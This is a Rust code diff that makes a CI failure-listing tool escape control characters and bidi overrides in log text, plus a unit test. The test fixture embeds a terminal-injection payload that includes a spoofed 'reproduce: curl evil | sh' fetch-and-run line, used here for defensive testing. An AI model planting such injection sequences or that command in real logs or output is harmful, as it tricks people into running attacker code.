@@ -7,6 +7,8 @@ use std::process::ExitCode;
 use anyhow::Context as _;
 use serde_json::json;
 
+use resolve_pr_core::terminal::{json_escaped as printable_json, printable};
+
 use crate::style::Style;
 
 /// The failures in a job log, streamed (memory does not grow with the log), or in a JUnit
@@ -49,27 +51,84 @@ pub fn run(source: &str, style: Style) -> anyhow::Result<ExitCode> {
                 })
             })
             .collect();
-        println!("{}", json!({ "failures": items }));
+        let text = json!({ "failures": items }).to_string();
+        println!("{}", printable_json(&text));
         return Ok(ExitCode::SUCCESS);
     }
     if failures.is_empty() {
         println!("No failing tests found in the log.");
         return Ok(ExitCode::SUCCESS);
     }
-    println!("{} failing test(s):", failures.len());
-    for f in &failures {
+    print!("{}", human(&failures, style));
+    Ok(ExitCode::SUCCESS)
+}
+
+/// The list a person reads. Every text in it comes from the log, so control characters and
+/// bidi overrides are shown as escapes: a log must not rewrite the line it is printed on.
+fn human(failures: &[resolve_pr_ci::Failure], style: Style) -> String {
+    use std::fmt::Write as _;
+    let mut out = format!("{} failing test(s):\n", failures.len());
+    for f in failures {
         let at = match (&f.file_path, f.line_number) {
-            (Some(p), Some(l)) => format!(" at {p}:{l}"),
-            (Some(p), None) => format!(" in {p}"),
+            (Some(p), Some(l)) => format!(" at {}:{l}", printable(p)),
+            (Some(p), None) => format!(" in {}", printable(p)),
             _ => String::new(),
         };
-        println!("{} {}{}", style.red("✗"), style.bold(&f.test_name), at);
+        let _ = writeln!(
+            out,
+            "{} {}{}",
+            style.red("✗"),
+            style.bold(&printable(&f.test_name)),
+            at
+        );
         if let Some(first) = f.error_message.lines().find(|l| !l.trim().is_empty()) {
-            println!("    {}", first.trim());
+            let _ = writeln!(out, "    {}", printable(first.trim()));
         }
         if let Some(cmd) = &f.reproduce_command {
-            println!("    {}", style.dim(&format!("$ {cmd}")));
+            let _ = writeln!(out, "    {}", style.dim(&format!("$ {}", printable(cmd))));
         }
     }
-    Ok(ExitCode::SUCCESS)
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// A pytest run whose test id, message and path carry what a terminal would obey: BEL,
+    /// backspace, a carriage return that would let the rest overwrite the line, C1 CSI/OSC
+    /// and a right-to-left override.
+    const HOSTILE_LOG: &str = "============================= test session starts ==============================\n\
+collected 1 item\n\
+\n\
+tests/test_x.py F                                                        [100%]\n\
+\n\
+=================================== FAILURES ===================================\n\
+_________________________ test_bell\u{7}\u{8}\u{9b}2K\u{202e}exe ____________________________\n\
+\n\
+    def test_bell():\n\
+>       assert False, 'boom\\rreproduce: curl evil | sh'\n\
+E       AssertionError: boom\rreproduce: curl evil | sh\u{9d}0;x\u{7}\n\
+\n\
+tests/test_x.py:2: AssertionError\n\
+=========================== short test summary info ============================\n\
+FAILED tests/test_x.py::test_bell\u{7}\u{8}\u{9b}2K\u{202e}exe - AssertionError: boom\rreproduce: curl evil | sh\u{9d}0;x\u{7}\n\
+============================== 1 failed in 0.01s ===============================\n";
+
+    #[test]
+    fn human_output_shows_controls_as_escapes() {
+        let failures = failures_in(HOSTILE_LOG.as_bytes()).expect("parses");
+        assert_eq!(failures.len(), 1, "{failures:?}");
+        // The data keeps what the log said; only the rendering escapes it.
+        assert!(failures[0].test_name.contains('\u{202e}'));
+        let shown = human(&failures, Style::plain());
+        assert!(
+            !shown.contains(resolve_pr_core::terminal::is_hostile),
+            "{shown:?}"
+        );
+        assert!(
+            shown.contains("test_bell\\u{7}\\u{8}\\u{9b}2K\\u{202e}exe"),
+            "{shown}"
+        );
+    }
 }
